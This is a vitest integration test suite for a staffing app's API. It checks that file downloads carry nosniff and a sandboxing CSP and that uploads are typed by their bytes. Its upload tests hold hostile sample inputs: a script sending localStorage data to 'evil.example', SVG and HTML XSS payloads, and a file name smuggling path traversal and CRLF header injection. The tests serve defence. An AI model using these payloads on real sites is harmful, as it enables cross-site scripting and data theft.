/**
 * Files are never rendered as pages (issue 28 §1), over real HTTP: every file endpoint of the contract answers with
 * nosniff and the sandboxing CSP, only PDF and raster images inline; an upload's type comes from its bytes (a page or
 * an SVG is refused naming the file, a PNG declared `text/html` is kept as PNG); an HTML file stored before the check
 * downloads as an attachment, never as a page.
 */
import { zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApiClient, ApiError } from '../../src/api/client';
import { accountingExportOnPeriod } from '../../src/api/contract/accounting';
import { exportMonthlyReports } from '../../src/api/contract/activity';
import { previewTemplate } from '../../src/api/contract/agencySettings';
import { buildPreviewPartialCreditNoteContext, downloadBill, downloadMedia, previewPartialCreditNote } from '../../src/api/contract/billing';
import { downloadPostPicture } from '../../src/api/contract/community';
import { downloadContract, downloadContractWorkingCopy } from '../../src/api/contract/contracts';
import { exportCustomersV2 } from '../../src/api/contract/customers';
import { exportEmployeesV2 } from '../../src/api/contract/employees';
import { downloadEstimate } from '../../src/api/contract/estimateDocuments';
import { downloadExport } from '../../src/api/contract/exports';
import { downloadFiscalAttestation, downloadFiscalAttestationWorkingCopy } from '../../src/api/contract/fiscalAttestations';
import { allEndpoints } from '../../src/api/contract/index';
import { downloadLibraryDocument, uploadLibraryDocument } from '../../src/api/contract/library';
import { doExportZip } from '../../src/api/contract/monthlyBilling';
import { newsImage } from '../../src/api/contract/news';
import { downloadPaysheet, uploadPaysheets } from '../../src/api/contract/paysheets';
import { downloadSharedDocument } from '../../src/api/contract/publicPages';
import { downloadSepaMandate, downloadSepaMandateWorkingCopy } from '../../src/api/contract/sepaMandates';
import * as support from '../../src/api/contract/support';
import { exportUnavailabilities } from '../../src/api/contract/unavailabilities';
import { downloadUserPicture, updateUserPicture } from '../../src/api/contract/users';
import { downloadWorkContract, downloadWorkContractWorkingCopy } from '../../src/api/contract/workContracts';
import { FILE, fillPath, type EndpointDef } from '../../src/api/endpoint';
import { sampleFile } from '../support/files';
import { loggedInClient, startSandbox } from '../support/sandbox';
import { http } from './sandbox-support';

let server: Awaited<ReturnType<typeof startSandbox>>;
let api: ApiClient;
/** The director's bearer, for the calls a plain fetch makes. */
let bearer: string;

beforeAll(async () => {
  server = await startSandbox();
  api = await loggedInClient(server.url, 'directrice@demo.fr');
  bearer = (await http(server.url).login('directrice@demo.fr')).token;
});
afterAll(() => server.close());

const LYON = 1;
const one = (sql: string, ...values: unknown[]) => server.sandbox.db.prepare(sql).pluck().get(...values) as number;
const failureOf = (promise: Promise<unknown>) => promise.then(() => null, (error: unknown) => error as ApiError);
/** A file endpoint opened as a link does: a one-use token in `tk`, `inline=true` asked wherever it can be. */
const opened = async (endpoint: EndpointDef, params: Record<string, unknown>, query: Record<string, string> = {}) =>
  fetch(await api.downloadUrl(endpoint, { params, query: { ...query, ...('inline' in ((endpoint.query as { shape?: object })?.shape ?? {}) ? { inline: 'true' } : {}) } } as never));
/** A file endpoint called with the bearer (the list exports, POST with the list's filters). */
const posted = (endpoint: EndpointDef, query: string, body: object) =>
  fetch(`${server.url}${endpoint.path}?${query}`, { method: 'POST', headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${bearer}` }, body: JSON.stringify(body) });

/** One way to obtain a real answer of each file endpoint of the contract. */
const FILE_CASES: Record<string, () => Promise<Response>> = {
  [downloadExport.name]: () => opened(downloadExport, { id: one('SELECT id FROM exports WHERE agency_id = ? ORDER BY id LIMIT 1', LYON) }),
  [exportCustomersV2.name]: () => posted(exportCustomersV2, 'exportType=CSV', {}),
  [exportEmployeesV2.name]: () => posted(exportEmployeesV2, 'exportType=XLSX', {}),
  [exportUnavailabilities.name]: () => posted(exportUnavailabilities, 'exportType=CSV', { pageSize: 2 }),
  [downloadUserPicture.name]: async () => {
    const id = one("SELECT id FROM employees WHERE agency_id = ? AND status = 'ACTIVE' ORDER BY id LIMIT 1", LYON);
    await api.call(updateUserPicture, { params: { id }, query: { type: 'PRO' }, body: { picture: sampleFile('PNG', 'photo.png', 'image/png') } });
    return opened(downloadUserPicture, { id }, { type: 'PRO' });
  },
  [newsImage.name]: () => fetch(server.url + fillPath(newsImage.path, { id: one('SELECT id FROM news ORDER BY id LIMIT 1') })),
  [downloadPaysheet.name]: async () => {
    const employee = server.sandbox.db.prepare("SELECT id, ref FROM employees WHERE agency_id = ? AND status = 'ACTIVE' ORDER BY id LIMIT 1").get(LYON) as { id: number; ref: string };
    const name = `${employee.ref}_bulletin.pdf`;
    const archive = zipSync({ [name]: sampleFile('PDF', name, 'application/pdf').bytes });
    await api.call(uploadPaysheets, { body: { month: '2026-03', archive: { fileName: 'bulletins.zip', mimeType: 'application/zip', bytes: archive }, selectedFileNames: [name] } });
    return opened(downloadPaysheet, { id: employee.id, pid: one('SELECT id FROM paysheets WHERE employee_id = ?', employee.id) });
  },
  [downloadBill.name]: () => opened(downloadBill, { id: one('SELECT id FROM bills WHERE agency_id = ? AND sequence IS NOT NULL ORDER BY id LIMIT 1', LYON) }),
  [downloadMedia.name]: () => opened(downloadMedia, { id: one('SELECT id FROM medias WHERE agency_id = ? ORDER BY id LIMIT 1', LYON) }),
  [previewPartialCreditNote.name]: async () => {
    const item = server.sandbox.db.prepare('SELECT i.id, i.bill_id AS billId FROM bill_items i JOIN bills b ON b.id = i.bill_id WHERE b.agency_id = ? AND b.sequence IS NOT NULL ORDER BY i.id LIMIT 1').get(LYON) as { id: number; billId: number };
    const context = await api.call(buildPreviewPartialCreditNoteContext, { params: { id: item.billId }, body: { lines: [{ kind: 'ITEM', id: item.id, amount: 100 }] } });
    return fetch(api.publicUrl(previewPartialCreditNote, { params: { id: item.billId, hash: context.hash }, query: { tk: context.token, inline: 'true' } }));
  },
  [doExportZip.name]: async () => {
    const month = String(server.sandbox.db.prepare('SELECT month FROM bills WHERE agency_id = ? AND sequence IS NOT NULL ORDER BY month LIMIT 1').pluck().get(LYON));
    return fetch(await api.downloadUrl(doExportZip, { params: { id: month } }), { method: 'POST' });
  },
  [downloadFiscalAttestation.name]: () => opened(downloadFiscalAttestation, { id: one('SELECT id FROM fiscal_attestations WHERE agency_id = ? ORDER BY id LIMIT 1', LYON) }),
  [downloadFiscalAttestationWorkingCopy.name]: () => opened(downloadFiscalAttestationWorkingCopy, { id: one('SELECT id FROM fiscal_attestations WHERE agency_id = ? ORDER BY id LIMIT 1', LYON) }),
  [accountingExportOnPeriod.name]: () => opened(accountingExportOnPeriod, {}, { start: '2026-01-01', end: '2026-12-31' }),
  [support.downloadAttachment.name]: () => opened(support.downloadAttachment, { id: one('SELECT id FROM support_attachments ORDER BY id LIMIT 1') }),
  [downloadSepaMandate.name]: () => sepa(downloadSepaMandate),
  [downloadSepaMandateWorkingCopy.name]: () => sepa(downloadSepaMandateWorkingCopy),
  [downloadContract.name]: () => opened(downloadContract, { id: one('SELECT id FROM contracts WHERE agency_id = ? ORDER BY id LIMIT 1', LYON) }),
  [downloadContractWorkingCopy.name]: () => opened(downloadContractWorkingCopy, { id: one('SELECT id FROM contracts WHERE agency_id = ? ORDER BY id LIMIT 1', LYON) }),
  [previewTemplate.name]: () => opened(previewTemplate, { agencyId: LYON, templateId: one('SELECT id FROM document_templates WHERE agency_id = ? ORDER BY id LIMIT 1', LYON) }),
  [downloadEstimate.name]: () => opened(downloadEstimate, { id: one('SELECT id FROM estimates WHERE agency_id = ? ORDER BY id LIMIT 1', LYON) }),
  [downloadWorkContract.name]: () => workContract(downloadWorkContract),
  [downloadWorkContractWorkingCopy.name]: () => workContract(downloadWorkContractWorkingCopy),
  [exportMonthlyReports.name]: () => fetch(`${server.url}${fillPath(exportMonthlyReports.path, { month: '2026-10', type: 'pros' })}`, { headers: { Authorization: `Bearer ${bearer}` } }),
  [downloadPostPicture.name]: () => {
    const picture = server.sandbox.db.prepare('SELECT p.id, p.post_id AS postId FROM post_pictures p JOIN posts ON posts.id = p.post_id WHERE posts.agency_id = ? ORDER BY p.id LIMIT 1').get(LYON) as { id: number; postId: number };
    return opened(downloadPostPicture, { id: picture.postId, pictureId: picture.id });
  },
  [downloadLibraryDocument.name]: () => opened(downloadLibraryDocument, { id: one('SELECT id FROM library_documents WHERE agency_id = ? ORDER BY id LIMIT 1', LYON) }),
  [downloadSharedDocument.name]: () => fetch(api.publicUrl(downloadSharedDocument, { params: { shareToken: 'demo-livret-lyon' } })),
};

function sepa(endpoint: EndpointDef) {
  const mandate = server.sandbox.db.prepare('SELECT id, customer_id AS customerId FROM sepa_mandates WHERE agency_id = ? ORDER BY id LIMIT 1').get(LYON) as { id: number; customerId: number };
  return opened(endpoint, { id: mandate.customerId, sid: mandate.id });
}

function workContract(endpoint: EndpointDef) {
  const contract = server.sandbox.db.prepare('SELECT id, employee_id AS employeeId FROM work_contracts WHERE agency_id = ? ORDER BY id LIMIT 1').get(LYON) as { id: number; employeeId: number };
  return opened(endpoint, { id: contract.employeeId, cid: contract.id });
}

const INLINE_TYPES = ['application/pdf', 'image/png', 'image/jpeg', 'image/gif', 'image/webp'];

describe('every file answer', () => {
  it('has a case for each FILE endpoint of the contract (a new download fails here until it is covered)', () => {
    const fileEndpoints = allEndpoints.filter((endpoint) => endpoint.response === FILE).map((endpoint) => endpoint.name);
    expect(fileEndpoints.length).toBe(27);
    expect(Object.keys(FILE_CASES).sort()).toEqual([...fileEndpoints].sort());
  });

  it.each(Object.keys(FILE_CASES))('%s: nosniff, the sandboxing CSP, and inline only for a PDF or a raster image', async (name) => {
    const response = await FILE_CASES[name]!();
    expect(response.status).toBe(200);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
    const type = response.headers.get('content-type')!.split(';')[0]!;
    const disposition = response.headers.get('content-disposition')!;
    // The news' screenshots are the sandbox's own SVG drawings (never an upload), shown by a plain <img>.
    if (name === newsImage.name) expect([type, disposition.split(';')[0]]).toEqual(['image/svg+xml', 'inline']);
    else expect(disposition.startsWith('inline') ? INLINE_TYPES : [type]).toContain(type);
    expect(disposition).toMatch(/^(inline|attachment); filename="[\x20-\x21\x23-\x5b\x5d-\x7e]+"; filename\*=UTF-8''[\w.%!~-]+$/);
    await response.arrayBuffer();
  });

  it('opens a seeded PDF inline and a seeded spreadsheet as an attachment, each typed by its bytes', async () => {
    const pdf = await FILE_CASES[downloadLibraryDocument.name]!();
    expect([pdf.headers.get('content-type'), pdf.headers.get('content-disposition')]).toEqual(['application/pdf', "inline; filename=\"livret-accueil.pdf\"; filename*=UTF-8''livret-accueil.pdf"]);
    const xlsx = await opened(downloadLibraryDocument, { id: one("SELECT id FROM library_documents WHERE agency_id = ? AND type = 'EXCEL'", LYON) });
    expect([xlsx.headers.get('content-type'), xlsx.headers.get('content-disposition')]).toEqual([
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', "attachment; filename=\"astreintes.xlsx\"; filename*=UTF-8''astreintes.xlsx",
    ]);
  });
});

const attachment = (fileName: string, mimeType: string, content: string | Uint8Array) => ({ fileName, mimeType, contentBase64: Buffer.from(content).toString('base64') });
const ticketWith = (...files: ReturnType<typeof attachment>[]) =>
  api.call(support.createTicket, { body: { supportTicketForm: { type: 'QUESTION', title: 'Pièces jointes', description: 'Voir les fichiers' }, files } });
const SUPPORT_TYPES = 'PNG, JPEG, GIF, WebP, MP4, WebM, MOV, PDF, DOC, DOCX, ODT, XLS, XLSX, ODS, CSV, PPT, PPTX, ODP, TXT, RTF, ZIP';

describe('uploads typed by their bytes', () => {
  it('refuses an HTML page and an SVG sent as support attachments, naming each file and what is accepted', async () => {
    const page = attachment('page.html', 'text/html', '<!doctype html><script>fetch("https://evil.example/?" + localStorage.length)</script>');
    const svg = attachment('logo.svg', 'image/svg+xml', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const refused = await failureOf(ticketWith(page, svg));
    expect([refused?.status, refused?.errors.map((e) => [e.code, e.field, e.label])]).toEqual([400, [
      ['FILE_TYPE_NOT_ACCEPTED', 'files', `Le fichier « page.html » n'est pas accepté : formats acceptés ${SUPPORT_TYPES}.`],
      ['FILE_TYPE_NOT_ACCEPTED', 'files', `Le fichier « logo.svg » n'est pas accepté : formats acceptés ${SUPPORT_TYPES}.`],
    ]]);
    // Markup under a text's name is refused too: a text file does not start with a tag.
    const disguised = await failureOf(ticketWith(attachment('notes.txt', 'text/plain', '  <html><body onload="alert(1)">')));
    expect(disguised?.message).toBe(`Le fichier « notes.txt » n'est pas accepté : formats acceptés ${SUPPORT_TYPES}.`);
  });

  it('keeps a PNG declared text/html as a PNG, and serves it as one', async () => {
    const png = sampleFile('PNG', 'capture.html', 'text/html');
    const ticket = await ticketWith(attachment(png.fileName, png.mimeType, png.bytes));
    expect(ticket.attachments.map((a) => [a.fileName, a.mimeType])).toEqual([['capture.html', 'image/png']]);
    const response = await opened(support.downloadAttachment, { id: ticket.attachments[0]!.id });
    expect([response.headers.get('content-type'), response.headers.get('content-disposition')?.split(';')[0]]).toEqual(['image/png', 'inline']);
    expect(new Uint8Array(await response.arrayBuffer())).toEqual(png.bytes);
  });

  it('keeps a text declared text/html in the library as plain text, downloaded as an attachment', async () => {
    const text = { fileName: 'consignes.txt', mimeType: 'text/html', bytes: new TextEncoder().encode('Consignes : fermer la porte à clé.\n') };
    const document = await api.call(uploadLibraryDocument, { body: { title: 'Consignes', file: text } });
    expect([document.type, document.mimeType]).toEqual(['DOCUMENT', 'text/plain']);
    const response = await opened(downloadLibraryDocument, { id: document.id });
    expect([response.headers.get('content-type'), response.headers.get('content-disposition')]).toEqual(['text/plain', "attachment; filename=\"consignes.txt\"; filename*=UTF-8''consignes.txt"]);
  });

  it('refuses a page declared as a PNG picture, naming the file and the image types', async () => {
    const refused = await failureOf(api.call(updateUserPicture, {
      params: { id: one("SELECT id FROM employees WHERE agency_id = ? AND status = 'ACTIVE' ORDER BY id LIMIT 1", LYON) }, query: { type: 'PRO' },
      body: { picture: { fileName: 'page.html', mimeType: 'image/png', bytes: new TextEncoder().encode('<html><script>alert(1)</script></html>') } },
    }));
    expect([refused?.status, refused?.errors[0]?.field, refused?.message]).toEqual([400, 'picture', "Le fichier « page.html » n'est pas accepté : formats acceptés PNG, JPEG, GIF, WebP."]);
  });
});

describe('files stored before the check', () => {
  const stored = (fileName: string, mimeType: string, content: string) =>
    Number(server.sandbox.db.prepare("INSERT INTO support_attachments (ticket_id, entry_id, file_name, mime_type, length, bytes, created_by, created_at) VALUES (1, NULL, ?, ?, ?, ?, 2, '2026-01-01T00:00:00.000Z')")
      .run(fileName, mimeType, Buffer.byteLength(content), Buffer.from(content)).lastInsertRowid);

  it('gives an HTML attachment asked inline as an opaque download, never as text/html', async () => {
    const response = await opened(support.downloadAttachment, { id: stored('page.html', 'text/html', '<!doctype html><script>document.title = "volé"</script>') });
    expect([response.status, response.headers.get('content-type'), response.headers.get('content-disposition')]).toEqual([
      200, 'application/octet-stream', "attachment; filename=\"page.html\"; filename*=UTF-8''page.html",
    ]);
    expect([response.headers.get('x-content-type-options'), response.headers.get('content-security-policy')]).toEqual(['nosniff', "sandbox; default-src 'none'"]);
  });

  it('gives an SVG attachment the same way, and a hostile name safely (no quote, line break or path)', async () => {
    const svg = await opened(support.downloadAttachment, { id: stored('logo.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') });
    expect([svg.headers.get('content-type'), svg.headers.get('content-disposition')?.split(';')[0]]).toEqual(['application/octet-stream', 'attachment']);
    const named = await opened(support.downloadAttachment, { id: stored('../../relevé "mars"\r\nX-Injecté: 1.txt', 'text/plain', 'Relevé de mars') });
    expect(named.headers.get('content-disposition')).toBe("attachment; filename=\"releve _mars_X-Injecte: 1.txt\"; filename*=UTF-8''relev%C3%A9%20%22mars%22X-Inject%C3%A9%3A%201.txt");
    expect([...named.headers.keys()].filter((key) => key.startsWith('x-inject'))).toEqual([]);
  });
});
